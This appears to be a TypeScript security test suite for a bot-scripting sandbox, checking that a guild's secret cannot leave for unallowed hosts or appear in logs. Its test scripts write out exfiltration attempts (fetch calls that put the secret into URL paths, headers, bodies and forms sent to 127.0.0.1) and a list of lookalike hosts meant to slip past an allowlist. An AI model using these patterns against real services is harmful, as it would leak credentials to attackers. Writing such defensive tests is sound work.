/** @module Ways to a secret's true value, and ways to send it where it may not go. */
import { type Attack, inCategory } from "../contract.ts";
import type { Field } from "../field.ts";
import { onGo, tries } from "../scripts.ts";

/** The attacker's guild has a secret of its own; nobody may see its value, the script least of all. */
async function giveSecret({ worker, guildId }: Field): Promise<string> {
  const value = `canary-own/${crypto.randomUUID()}+ä`;
  worker.canaries.push(value, value.slice(0, 30));
  await worker.putSecret(guildId, "OWN", value, ["api.example.com", "*.trusted.example.com"]);
  return value;
}

/** An attack by a guild that has a secret; `script` is deployed once it is there. Its dispatch must end well. */
const withSecret = (
  name: string,
  script: (scene: Field["scene"]) => string,
  must: Attack["must"],
  say: (value: string) => string = () => "go",
): Omit<Attack, "category"> => ({
  name,
  script: `on("messageCreate", () => {});`,
  async drive(field) {
    const value = await giveSecret(field);
    await field.deploy(script(field.scene));
    const outcome = await field.say(say(value));
    if (!/^(ok|threw)/.test(outcome)) throw new Error(`ended with ${outcome}`);
  },
  must,
});

const attempts = (list: Record<string, string>, setUp = "") => ({
  script: () => tries(list, `const own = secrets.get("OWN");${setUp}`),
  must: { notes: { tried: Object.keys(list).length } },
});

/** Hosts that are near those the secret may go to. */
const NEAR = [
  "api.example.com.evil.example",
  "evil-api.example.com.evil.example",
  "example.com",
  "xapi.example.com",
  "api.example.com@127.0.0.1",
  "127.0.0.1/api.example.com",
  "127.0.0.1?api.example.com",
  "127.0.0.1#api.example.com",
  "trusted.example.com",
  "xtrusted.example.com",
  "a.trusted.example.com.evil.example",
  "api．example．com.evil.example",
  "api.example.com%2eevil.example",
  "xn--api.example.com",
];

const sent = (url: string, init = "{}") => `fetch("${url}", ${init}).then((r) => "answered " + r.status)`;
const places = attempts({
  "the path": `fetch("http://127.0.0.1/" + own).then(() => 1)`,
  "the query": `fetch("http://127.0.0.1/?k=" + own).then(() => 1)`,
  "the host": `fetch("http://" + own + ".example.com/").then(() => 1)`,
  "the port": `fetch("http://127.0.0.1:" + own + "/").then(() => 1)`,
  "user and password": `fetch("http://" + own + ":x@127.0.0.1/").then(() => 1)`,
  "a header": `fetch("http://127.0.0.1/", { headers: { a: own } }).then(() => 1)`,
  "a header's name": `fetch("http://127.0.0.1/", { headers: { [own]: "a" } }).then(() => 1)`,
  "Basic credentials":
    `fetch("http://127.0.0.1/", { headers: { authorization: "Basic " + btoa("u:" + own) } }).then(() => 1)`,
  "the method": `fetch("http://127.0.0.1/", { method: own }).then(() => 1)`,
  "a body": `fetch("http://127.0.0.1/", { method: "POST", body: own }).then(() => 1)`,
  "a form":
    `(() => { const f = new FormData(); f.set("k", own); return fetch("http://127.0.0.1/", { method: "POST", body: f }).then(() => 1); })()`,
  "plain http to a host it may go to":
    `fetch("http://api.example.com/", { headers: { a: own } }).then(() => 1)`,
});
const near = attempts(Object.fromEntries(
  NEAR.map((host) => [host, sent(`https://${host}/`, `{ headers: { a: own } }`)]),
));
const forged = attempts({
  "the name": `secrets.get("OWN") === "OWN"`,
  "names that every object has":
    `["__proto__", "constructor", "toString", "hasOwnProperty"].some((name) => secrets.get(name) !== undefined)`,
  "another guild's name": `secrets.get("API")`,
  "a longer placeholder": `fetch("http://127.0.0.1/" + own + "00").then(() => 1)`,
  "a shorter one": `fetch("http://127.0.0.1/" + own.slice(0, -1)).then(() => 1)`,
  "one in capitals": `fetch("http://127.0.0.1/" + own.toUpperCase()).then(() => 1)`,
  "one of zeros": `fetch("http://127.0.0.1/flora_secret_" + "0".repeat(32)).then(() => 1)`,
  "the name in a placeholder": `fetch("http://127.0.0.1/flora_secret_OWN").then(() => 1)`,
  "one nested in itself":
    `fetch("http://127.0.0.1/" + own.replace("secret_", "secret_" + own)).then(() => 1)`,
  "something hashed with it":
    `crypto.subtle.importKey("raw", new TextEncoder().encode(own), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]).then(() => 0)`,
}, ` if (!/^flora_secret_[0-9a-f]{32}$/.test(own)) throw new Error("is no placeholder");`);

/** What the script logs of the value that somebody wrote into the chat, in ways that hide it a little. */
const spelt = `
  const v = ctx.msg.content;
  console.log(v); console.log("in", { deep: { er: [v] } }, v, new Map([[v, v]]));
  console.log(JSON.stringify({ v })); console.log(encodeURIComponent(v)); console.log("x" + v + v + "x");
  console.error(new Error(v)); console.warn(new Error("x", { cause: v }));
  Promise.reject(new Error("nobody handles " + v));
  await kv.store("a").increment(v, 0.5).catch((e) => console.log(e.message, e));
  await kv.store(v).get("k").catch((e) => console.log(e.message, e));
  await fetch("http://127.0.0.1/?" + v).catch((e) => console.log(e.message, e));
  await fetch("https://" + encodeURIComponent(v) + ".example.com/").catch((e) => console.log(e.message, e));
  await rest.sendMessage({ channelId: v, content: "x" }).catch((e) => console.log(e.message, e));
  await rest.fetchInvite({ code: v }).catch((e) => console.log(e.message, e));
  throw new TypeError("thrown " + v);`;

export const secretAttacks = inCategory("op-secret", [
  withSecret(
    "a secret leaves to no host but its own, wherever its placeholder stands",
    places.script,
    places.must,
  ),
  withSecret("a secret does not leave to hosts that look like its own", near.script, near.must),
  withSecret("forged placeholders stand for nothing", forged.script, forged.must),
  withSecret(
    "a secret that somebody writes into the chat is in no log line, error or stack",
    () => `on("messageCreate", async (ctx) => {${spelt}\n});`,
    { told: /\*\*\*/ },
    (value) => value,
  ),
  withSecret(
    "a script that throws the secret while loading tells nobody",
    () =>
      `on("messageCreate", async (ctx) => { const [line] = [ctx.msg.content]; setTimeout(() => { throw new Error("later " + line); }, 1);
      await new Promise((go) => setTimeout(go, 30)); });`,
    { told: /later \*\*\*/ },
    (value) => value,
  ),
  {
    name: "placeholders of a guild tell nothing about those of another",
    script: ({ neighbour }) =>
      onGo(`
      const theirs = ${JSON.stringify(neighbour.placeholder)};
      for (const text of [theirs, theirs.toUpperCase(), theirs.slice(13)]) {
        await fetch("https://api.example.com/" + text).then(() => 1, (e) => e.code === "SECRET_HOST_FORBIDDEN" && win("known", text));
        await fetch("http://127.0.0.1/" + text).then(() => 1, (e) => e.code === "SECRET_HOST_FORBIDDEN" && win("known here", text));
      }
      await note("done", true);`),
    must: { notes: { done: true }, again: "ok" },
  },
], "ops");
